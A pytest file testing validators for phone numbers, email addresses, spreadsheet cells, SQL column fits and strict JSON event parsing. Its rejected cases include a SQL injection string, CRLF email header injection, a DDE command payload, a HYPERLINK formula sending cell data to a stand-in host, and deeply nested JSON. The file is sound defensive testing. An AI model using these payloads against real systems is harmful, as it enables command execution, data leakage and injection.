"""Data hygiene at the edges: addresses that can be sent to, cells a spreadsheet will not run,
values a column can hold, and events read strictly."""

from __future__ import annotations

import io
from decimal import Decimal
from typing import Any

import pytest
from sqlalchemy import Integer, Numeric, String, Text

from engine.core.addresses import valid_email, valid_phone
from engine.core.spreadsheet import SafeWriter, safe_cell
from engine.events.wire import loads
from engine.store.csvread import does_not_fit


@pytest.mark.parametrize(
    ("value", "ok"),
    [
        ("13812345678", True),
        ("+86 138-1234-5678", True),
        ("(010) 6552 8888", True),
        (13812345678, True),
        ("'; DROP TABLE customers; --", False),
        ("12345", False),  # too short to be anyone's number
        ("1381234567812345678", False),  # over E.164's 15 digits
        ("138 1234 5678\nBcc: x", False),
        ("", False),
        (None, False),
        ("１３８１２３４５６７８", False),  # full-width digits: the gateway wants ASCII
    ],
)
def test_a_phone_is_digits_and_nothing_else(value: Any, ok: bool) -> None:
    assert valid_phone(value) is ok


@pytest.mark.parametrize(
    ("value", "ok"),
    [
        ("zhang.wei@example.com", True),
        ("o'brien+care@bank.example.cn", True),
        ("bob@example.com\r\nBcc: everyone@example.com", False),
        ("bob@example.com, eve@example.com", False),
        ("<script>@example.com", False),
        ("no-at-sign.example.com", False),
        ("a@b", False),
        ("x" * 250 + "@example.com", False),
        (None, False),
    ],
)
def test_an_email_address_is_one_address_on_one_line(value: Any, ok: bool) -> None:
    assert valid_email(value) is ok


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"点我")', "'=HYPERLINK"),
        ("=cmd|' /C calc'!A0", "'=cmd"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("张三", "张三"),
        ("a=b", "a=b"),
    ],
)
def test_a_text_cell_a_spreadsheet_would_run_is_shown_as_text(cell: str, shown: str) -> None:
    assert str(safe_cell(cell)).startswith(shown)


def test_numbers_stay_numbers_and_the_writer_guards_every_cell() -> None:
    assert safe_cell(-5) == -5 and safe_cell(-1.5) == -1.5 and safe_cell(None) is None
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+1", -3, "ok"])
    assert out.getvalue() == "'=1+1,-3,ok\r\n"


@pytest.mark.parametrize(
    ("sql_type", "value", "problem"),
    [
        (Numeric(18, 2), Decimal("1e400"), "out of range"),
        (Numeric(18, 2), float("inf"), "out of range"),
        (Numeric(18, 2), Decimal("9" * 26), "more than 16 digits"),
        (Numeric(18, 2), Decimal("9999999999999999.99"), None),
        (Numeric(18, 2), Decimal("-5.5"), None),
        (String(50), "张三", None),
        (String(5), "长" * 6, "at most 5"),
        (Text(), "a\x00b", "NUL byte"),
        (Integer(), 2**70, "too large"),
        (Integer(), 42, None),
    ],
)
def test_a_value_fits_its_column_or_says_why_not(
    sql_type: Any, value: Any, problem: str | None
) -> None:
    found = does_not_fit(sql_type, value)
    assert (found is None) if problem is None else (problem in (found or "")), found


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ('{"id": "a", "id": "b"}', "given twice"),
        ('{"amount": ' + "9" * 400 + "}", "digits"),
        ('{"amount": 1e400}', "out of range"),
        ('{"amount": NaN}', "NaN"),
        ('{"amount": -Infinity}', "Infinity"),
        ("[" * 50_000 + "]" * 50_000, "nested too deeply"),
    ],
)
def test_an_event_line_is_read_strictly(line: str, why: str) -> None:
    with pytest.raises(ValueError, match=why):
        loads(line)


def test_a_good_event_line_reads_as_json_does() -> None:
    line = '{"id": "e1", "amount": 600000.5, "n": 3, "tags": ["a"], "x": null}'
    assert loads(line) == {"id": "e1", "amount": 600000.5, "n": 3, "tags": ["a"], "x": None}
